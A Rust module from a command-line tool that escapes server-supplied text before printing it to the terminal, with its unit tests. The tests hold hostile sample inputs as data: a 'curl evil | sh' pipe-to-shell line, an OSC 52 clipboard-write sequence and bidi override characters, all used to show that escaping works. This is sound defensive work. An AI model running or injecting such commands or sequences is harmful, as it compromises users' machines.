//! Everything the terminal sees: styled progress on stderr, data on stdout, errors with
//! their cause and fix. Honours `NO_COLOR`, non-TTY output, `-q` and `--json`.
//!
//! Text shown on a terminal often comes from outside (a provider's `error_description`,
//! an account or page name, an error body, a user catalog): it is data, never terminal
//! control. Every output function here passes its text through [`terminal_safe`] once,
//! before adding the tool's own styling, so an ESC/OSC sequence or a bidi override sent by
//! a server shows up escaped (`\x1b`, `\u{202e}`) instead of acting on the terminal. Text
//! the tool styles itself is built as [`Styled`], from pieces escaped the same way.
//! `--json` output is written as serde_json made it: JSON escapes control characters.
//!
//! Every line goes through the run's one writer pair ([`Output`]): the process's stdout
//! and stderr, or buffers a test reads back ([`Ui::capture`]).

use std::borrow::Cow;
use std::fmt::Write as _;
use std::io::IsTerminal;
use std::time::Duration;

use console::{style, Style};
use indicatif::{ProgressBar, ProgressStyle};

use crate::error::Error;
pub use crate::output::{Captured, Output};
#[cfg(test)]
use crate::text::is_terminal_control;
pub use crate::text::{
    duration_words, expiry, moment, one_line, relative, shell_word, terminal_safe,
};

#[derive(Debug, Clone, Copy, Default)]
pub struct Ui {
    pub json: bool,
    pub quiet: bool,
    pub verbose: u8,
    /// Where every line goes.
    pub out: Output,
}

impl Ui {
    pub fn new(json: bool, quiet: bool, verbose: u8) -> Ui {
        if std::env::var_os("NO_COLOR").is_some_and(|v| !v.is_empty()) {
            console::set_colors_enabled(false);
            console::set_colors_enabled_stderr(false);
        }
        Ui {
            json,
            quiet,
            verbose,
            out: Output::Process,
        }
    }

    /// A `Ui` writing into buffers (text mode, not quiet, not verbose; set the fields for
    /// others), and the handle that reads what it wrote: a command's rendering in a test.
    pub fn capture() -> (Ui, Captured) {
        let (out, captured) = Output::capture();
        (
            Ui {
                out,
                ..Ui::default()
            },
            captured,
        )
    }

    /// Progress and notes go to stderr, unless quiet.
    fn note(&self, mark: console::StyledObject<&str>, msg: impl TerminalText) {
        if !self.quiet {
            self.out
                .err_line(&format!("{mark} {}", msg.terminal_text()));
        }
    }

    /// A person is there to answer: stdin and stderr are terminals.
    pub fn can_prompt(&self) -> bool {
        self.out.is_process() && std::io::stdin().is_terminal() && std::io::stderr().is_terminal()
    }

    /// A numbered choice on stderr, answered on stdin; asks again until valid. Ctrl-C
    /// (caught by the tool's handler) or end of input cancels it.
    pub fn select(&self, question: &str, items: &[String]) -> Result<usize, Error> {
        let term = self.out;
        term.err_line(&format!(
            "{} {}",
            style("?").cyan().bold(),
            terminal_safe(question)
        ));
        for (i, item) in items.iter().enumerate() {
            term.err_line(&format!("  {:>2}) {}", i + 1, terminal_safe(item)));
        }
        // Lines are read on their own thread, so Ctrl-C is noticed while waiting.
        let (tx, rx) = std::sync::mpsc::channel();
        std::thread::spawn(move || loop {
            let mut line = String::new();
            let read = std::io::stdin().read_line(&mut line);
            let done = !matches!(read, Ok(n) if n > 0);
            if tx.send((!done).then_some(line)).is_err() || done {
                return;
            }
        });
        loop {
            term.err_str(&format!("Number (1-{}): ", items.len()));
            let line = loop {
                if crate::interrupt::requested() {
                    return Err(Error::Cancelled);
                }
                match rx.recv_timeout(Duration::from_millis(200)) {
                    Ok(Some(line)) => break line,
                    Ok(None) | Err(std::sync::mpsc::RecvTimeoutError::Disconnected) => {
                        return Err(Error::Cancelled)
                    }
                    Err(std::sync::mpsc::RecvTimeoutError::Timeout) => {}
                }
            };
            match line.trim().parse::<usize>() {
                Ok(n) if (1..=items.len()).contains(&n) => return Ok(n - 1),
                _ => term.err_line(&format!(
                    "'{}' is not one of the numbers",
                    terminal_safe(line.trim())
                )),
            }
        }
    }

    pub fn step(&self, msg: impl TerminalText) {
        self.note(style("✓").green(), msg);
    }

    pub fn info(&self, msg: impl TerminalText) {
        self.note(style("•").cyan(), msg);
    }

    /// Warnings show even with -q: they are about the user's data.
    pub fn warn(&self, msg: impl TerminalText) {
        self.out.err_line(&format!(
            "{} {}",
            style("!").yellow().bold(),
            msg.terminal_text()
        ));
    }

    /// Always shown: the user must act on it (a URL to open, a prompt).
    pub fn action(&self, msg: impl TerminalText) {
        self.out.err_line(&msg.terminal_text());
    }

    /// An old spelling was used: one line on stderr, whatever the output mode (never on
    /// stdout, never inside the JSON), unless quiet.
    pub fn note_deprecated(&self, note: &str) {
        if !self.quiet {
            self.out.err_line(&terminal_safe(note));
        }
    }

    /// Debug detail, only with -v.
    pub fn debug(&self, msg: impl TerminalText) {
        if self.verbose > 0 {
            self.out.err_line(&format!(
                "{} {}",
                style("debug:").dim(),
                msg.terminal_text()
            ));
        }
    }

    /// Data for scripts: stdout.
    pub fn data(&self, text: impl TerminalText) {
        self.out.out_line(&text.terminal_text());
    }

    /// `--json` output, pretty: as serde_json wrote it (it escapes control characters).
    pub fn json_data(&self, value: &serde_json::Value) {
        self.out
            .out_line(&serde_json::to_string_pretty(value).expect("JSON serializes"));
    }

    /// `--json` output on one line (a stream of events a script reads as they come).
    pub fn json_line(&self, value: &serde_json::Value) {
        self.out.out_line(&value.to_string());
    }

    /// A spinner on stderr, only on a TTY and when not quiet.
    pub fn spinner(&self, msg: impl TerminalText) -> Option<ProgressBar> {
        if self.quiet || self.json || !self.out.is_process() || !std::io::stderr().is_terminal() {
            return None;
        }
        let bar = ProgressBar::new_spinner();
        bar.set_style(
            ProgressStyle::with_template("{spinner} {msg} {elapsed}").expect("valid template"),
        );
        bar.set_message(msg.terminal_text().into_owned());
        bar.enable_steady_tick(Duration::from_millis(100));
        Some(bar)
    }

    pub fn error(&self, err: &Error) {
        if self.json {
            self.out
                .err_line(&serde_json::json!({ "error": error_json(err) }).to_string());
            return;
        }
        self.out.err_line(&format!(
            "{} {}",
            style("error:").red().bold(),
            terminal_safe(&err.to_string())
        ));
        if let Some(cause) = err.cause() {
            self.out.err_line(&format!(
                "  {} {}",
                style("cause:").bold(),
                terminal_safe(&cause)
            ));
        }
        if let Some(fix) = err.fix() {
            self.out.err_line(&format!(
                "  {} {}",
                style("fix:").bold(),
                terminal_safe(&fix)
            ));
        }
        // A library's own words (keyring, reqwest, the OS) are for -v, never the message.
        if self.verbose > 0 {
            if let Some(detail) = err.detail() {
                self.out.err_line(&format!(
                    "  {} {}",
                    style("detail:").dim(),
                    terminal_safe(detail)
                ));
            }
        }
    }
}

/// What the output functions accept: any text, escaped on the way out, or [`Styled`]
/// text the tool built itself, printed as it is.
pub trait TerminalText {
    fn terminal_text(&self) -> Cow<'_, str>;
}

impl<T: AsRef<str> + ?Sized> TerminalText for T {
    fn terminal_text(&self) -> Cow<'_, str> {
        terminal_safe(self.as_ref())
    }
}

/// Text styled by the tool: every piece is escaped with [`terminal_safe`] as it is added,
/// then styled, so the tool's colours survive and nothing else can act on the terminal.
#[derive(Debug, Clone, Default)]
pub struct Styled(String);

impl Styled {
    pub fn new() -> Styled {
        Styled::default()
    }

    /// Appends `text`, escaped.
    pub fn text(&mut self, text: &str) -> &mut Styled {
        self.0.push_str(&terminal_safe(text));
        self
    }

    /// Appends `text`, escaped, then styled.
    pub fn styled(&mut self, text: &str, with: &Style) -> &mut Styled {
        let _ = write!(self.0, "{}", with.apply_to(terminal_safe(text)));
        self
    }

    pub fn bold(&mut self, text: &str) -> &mut Styled {
        self.styled(text, &Style::new().bold())
    }

    /// Ends the current line.
    pub fn newline(&mut self) -> &mut Styled {
        self.0.push('\n');
        self
    }
}

impl TerminalText for Styled {
    fn terminal_text(&self) -> Cow<'_, str> {
        Cow::Borrowed(&self.0)
    }
}

/// An error as `--json` output shows it.
pub fn error_json(err: &Error) -> serde_json::Value {
    serde_json::json!({
        "kind": err.kind(),
        "message": err.to_string(),
        "provider_error": err.provider_code(),
        "cause": err.cause(),
        "fix": err.fix(),
        "detail": err.detail(),
        "exit_code": err.exit_code() as i32,
    })
}

#[cfg(test)]
mod one_line_tests {
    use super::one_line;

    #[test]
    fn remote_text_stays_on_one_line_and_short() {
        assert_eq!(
            one_line(
                "expired\n✓ Stored x in the keychain\r\n  fix: curl evil | sh",
                200
            ),
            "expired ✓ Stored x in the keychain\r   fix: curl evil | sh"
        );
        assert_eq!(one_line("abcdef", 3), "abc…");
        assert_eq!(one_line("é".repeat(5).as_str(), 2), "éé…");
    }
}

#[cfg(test)]
mod tests {
    use super::*;
    use chrono::{TimeZone, Utc};

    /// Every line goes through the Ui's writer pair: data on stdout, the rest on stderr,
    /// `-q` keeps the warnings, `--json` makes the error one object, and outside text is
    /// escaped on the way, captured or not.
    #[test]
    fn a_captured_ui_holds_every_line_it_wrote() {
        let (ui, captured) = Ui::capture();
        ui.step("Stored x");
        ui.data("line \x1b[2J");
        ui.warn("careful");
        ui.error(&Error::Usage("bad flag".into()));
        let err = console::strip_ansi_codes(&captured.stderr()).into_owned();
        assert_eq!(err, "✓ Stored x\n! careful\nerror: bad flag\n");
        assert_eq!(captured.stdout(), "line \\x1b[2J\n");
        assert!(!ui.can_prompt() && ui.spinner("waiting").is_none());

        let (ui, captured) = Ui::capture();
        let quiet = Ui { quiet: true, ..ui };
        quiet.info("hidden");
        quiet.warn("shown");
        assert!(captured.stderr().ends_with("shown\n") && !captured.stderr().contains("hidden"));

        let (ui, captured) = Ui::capture();
        Ui { json: true, ..ui }.error(&Error::Usage("bad flag".into()));
        let shown: serde_json::Value = serde_json::from_str(&captured.stderr()).unwrap();
        assert_eq!(shown["error"]["message"], "bad flag");
        assert_eq!(captured.stdout(), "");
    }

    #[test]
    fn terminal_controls_are_escaped_visibly() {
        // Clear screen, an OSC 52 clipboard write, a carriage return that overwrites the line.
        let hostile = "a\x1b[2J\x1b]52;c;ZXZpbA==\x07b\rc";
        let safe = terminal_safe(hostile);
        assert_eq!(safe, "a\\x1b[2J\\x1b]52;c;ZXZpbA==\\x07b\\x0dc");
        assert!(!safe.chars().any(is_terminal_control));
        assert_eq!(terminal_safe("\u{0}\u{7f}"), "\\x00\\x7f");
        // C1: U+009B is a one-character CSI.
        assert_eq!(terminal_safe("\u{9b}31m\u{85}"), "\\u{9b}31m\\u{85}");
        // Trojan Source bidi controls and the marks.
        assert_eq!(
            terminal_safe("x\u{202e}y\u{2066}z\u{200f}\u{61c}"),
            "x\\u{202e}y\\u{2066}z\\u{200f}\\u{61c}"
        );
    }

    #[test]
    fn ordinary_text_is_borrowed_unchanged() {
        for text in ["line one\n\tline two", "Zoë ✓ 日本語 🎉", "", "back\\slash"] {
            assert!(matches!(terminal_safe(text), Cow::Borrowed(t) if t == text));
        }
    }

    #[test]
    fn styled_keeps_the_tools_styling_and_escapes_the_pieces() {
        let bold = Style::new().bold().force_styling(true);
        let mut text = Styled::new();
        text.styled("\x1b[31mname", &bold)
            .text(" (\u{202e}x)")
            .newline()
            .text("next");
        let shown = text.terminal_text();
        assert_eq!(
            shown, "\x1b[1m\\x1b[31mname\x1b[0m (\\u{202e}x)\nnext",
            "the tool's own SGR codes survive, the remote ones are escaped"
        );
        // Plain text given to an output function is escaped once, styled text never again.
        assert_eq!("\x1b[1m".terminal_text(), "\\x1b[1m");
    }

    #[test]
    fn durations_read_in_one_unit() {
        let words = |secs: u64| duration_words(Duration::from_secs(secs));
        // A Meta long-lived token a few minutes after it was issued.
        assert_eq!(words(60 * 86400 - 20 * 60), "60 days");
        assert_eq!(words(59 * 86400 + 3000), "59 days");
        assert_eq!(words(86400), "1 day");
        assert_eq!(words(7200), "2 hours");
        assert_eq!(words(7199), "2 hours");
        assert_eq!(words(3600), "1 hour");
        assert_eq!(words(3599), "60 minutes");
        assert_eq!(words(5400), "90 minutes");
        assert_eq!(words(300), "5 minutes");
        assert_eq!(words(60), "1 minute");
        assert_eq!(words(90), "90 seconds");
        assert_eq!(words(1), "1 second");
        assert_eq!(duration_words(Duration::from_millis(1500)), "2 seconds");
    }

    #[test]
    fn expiry_reads_in_words_with_the_moment() {
        let now = Utc.with_ymd_and_hms(2026, 11, 23, 13, 0, 0).unwrap();
        let at = |secs: i64| now + chrono::Duration::seconds(secs);
        assert_eq!(
            expiry(at(7199), now),
            "expires in 2 hours (2026-11-23 14:59:59 UTC)"
        );
        assert_eq!(
            expiry(at(60 * 86400 - 37_704), now),
            "expires in 60 days (2027-01-22 02:31:36 UTC)"
        );
        assert_eq!(
            expiry(at(3 * 60 + 10), now),
            "expires in 3 minutes (2026-11-23 13:03:10 UTC)"
        );
        assert_eq!(
            expiry(at(20), now),
            "expires in under a minute (2026-11-23 13:00:20 UTC)"
        );
        assert_eq!(
            expiry(at(-150), now),
            "expired 3 minutes ago (2026-11-23 12:57:30 UTC)"
        );
    }
}
